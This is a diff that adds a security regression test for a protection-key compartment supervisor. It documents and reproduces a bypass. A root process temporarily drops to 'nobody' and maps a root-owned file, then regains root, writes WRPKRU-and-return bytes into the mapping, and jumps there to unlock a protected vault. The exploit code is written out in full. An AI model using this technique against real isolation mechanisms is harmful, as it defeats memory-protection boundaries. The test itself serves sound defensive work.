@@ -1,0 +1,75 @@
+// The rule against files the process could change
+// (runtime/supervisor-exec.c changeable()) judges the caller by its
+// effective capabilities (CapEff: CAP_DAC_OVERRIDE or CAP_FOWNER means
+// "root: scanned only", docs/hardening.md) and its file-system user id.
+// A process that stepped down for a while (setresuid(-1, 65534, -1): the
+// effective and file-system ids are nobody's, CapEff is empty, the saved
+// id is still root and the permitted capabilities are all there) is
+// judged as nobody: a file root owns, mode 0644, "cannot be changed" and
+// is mapped after the scan. The default domain then steps back up
+// (setresuid(-1, 0, -1), allowed by the saved id), writes WRPKRU; ret into
+// the file, which the private mapping shows, and jumps to it with eax =
+// ecx = edx = 0: every key opens and the vault's page reads. Servers that
+// drop root with seteuid and keep the way back are this case; so is a
+// process whose permitted capabilities hold CAP_DAC_OVERRIDE with an empty
+// effective set (capset raises it). Found in the fifth review (attacker
+// model B); reproduced in the QEMU guest (6.1).
+//
+// The fix: judge by what the caller can become, not what it is now:
+// every one of its user and group ids (real, effective, saved, file
+// system) and its permitted capabilities (CapPrm). Such a caller is root
+// for this rule; the docs' limitation for root callers ("scanned only",
+// "What it does not defend") then names it, and this test stays XFAIL
+// until that limitation is closed (the supervisor refusing writable opens
+// of files mapped executable by our process) or such callers are refused.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
+// RUN: %run %t.on | FileCheck %s --check-prefix=ON
+// ON-NOT: ATTACK SUCCEEDED
+// ON: saved-root: stopped by signal 9
+// ON: parent's vault intact: 1
+#include "Inputs/target.h"
+#include "Inputs/libc-wrpkru.h"
+static void attack(void) {
+  static unsigned char page[4096];
+  memset(page, 0xcc, sizeof page);
+  int fd = open("/tmp/r5su-code", O_RDWR | O_CREAT | O_TRUNC, 0644);
+  if (fd < 0 || write(fd, page, sizeof page) != sizeof page || close(fd)) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  /* Root steps down for a while: effective user nobody, saved user root. */
+  if (setresuid(-1, 65534, -1)) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  fd = open("/tmp/r5su-code", O_RDONLY);
+  unsigned char *m =
+      fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+  if (m == MAP_FAILED) {
+    report_read("a file root wrote after stepping back up", NULL);
+    return;
+  }
+  printf("mapped\n");
+  fflush(stdout);
+  const unsigned char code[4] = {0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3};
+  int w = setresuid(-1, 0, -1) ? -1 : open("/tmp/r5su-code", O_WRONLY);
+  if (w < 0 || pwrite(w, code, 4, 0x100) != 4) {
+    report_read("a file root wrote after stepping back up", NULL);
+    return;
+  }
+  static char out[48];
+  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\txorl %%edx, %%edx\n\t"
+                   "call *%0\n\t"
+                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\tmovl $40, %%ecx\n\trep movsb"
+                   :
+                   : "r"(m + 0x100), "r"(vault_data), "r"(out)
+                   : "rax", "rcx", "rdx", "rsi", "rdi", "memory");
+  report_read("a file root wrote after stepping back up", out);
+}
+
+int main(void) {
+  struct attack a[] = {{"saved-root", attack}};
+  return run_attacks(a, 1);
+}
